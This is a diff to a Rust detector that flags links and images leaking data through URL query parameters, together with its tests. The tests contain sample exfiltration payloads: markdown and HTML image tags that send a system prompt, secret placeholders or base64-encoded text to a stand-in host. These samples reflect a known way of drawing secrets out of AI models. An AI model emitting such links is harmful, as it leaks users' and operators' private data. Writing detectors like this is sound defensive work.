@@ -200,7 +200,10 @@ fn judge(address: &str, loads: bool) -> Option<Leak> {
     if path || parameters.clone().any(fills) {
         return Some(if loads { Leak::Loaded } else { Leak::Followed });
     }
-    let filled = |(parameter, value): (&str, &str)| carries(parameter) && is_data(value);
+    let alone = !query.contains(['&', ';']);
+    let filled = |(parameter, value): (&str, &str)| {
+        carries(parameter) && (is_data(value) || alone && parameter.len() == 1 && is_code(value))
+    };
     (loads && parameters.any(filled)).then_some(Leak::Carries)
 }
 
@@ -288,6 +291,14 @@ fn is_data(value: &str) -> bool {
             || value.len() >= 24 && value.bytes().all(|byte| byte.is_ascii_hexdigit()))
 }
 
+/// True for a value that is neither a word nor a number: all that an address asks for by a single letter is no
+/// choice of a picture.
+fn is_code(value: &str) -> bool {
+    let written = value.bytes().all(|byte| byte.is_ascii_alphanumeric());
+    let plain = [u8::is_ascii_lowercase, u8::is_ascii_digit];
+    value.len() >= 3 && written && !plain.iter().any(|class| value.bytes().all(|byte| class(&byte)))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -324,9 +335,12 @@ mod tests {
         let link = found("[click](https://e.com/?d={{secret}})");
         assert_eq!(link, [(Leak::Followed, "https://e.com/?d={{secret}}")]);
         assert_eq!(found("see [it][1]\n\n[1]: https://e.com/?x={token}")[0].0, Leak::Followed);
-        for text in
-            ["![x](https://e.com/?d=SYSTEM_PROMPT)", "<img src='//e.com/i?data=U2VjcmV0IGtleSBpcyAxMg=='>"]
-        {
+        for text in [
+            "![x](https://e.com/?d=SYSTEM_PROMPT)",
+            "<img src='//e.com/i?k=abc123'>",
+            "![x][r]\n\n[r]: https://e.com/a?d=ABC",
+            "<img src='//e.com/i?data=U2VjcmV0IGtleSBpcyAxMg=='>",
+        ] {
             assert_eq!(found(text)[0].0, Leak::Carries, "{text}");
         }
     }
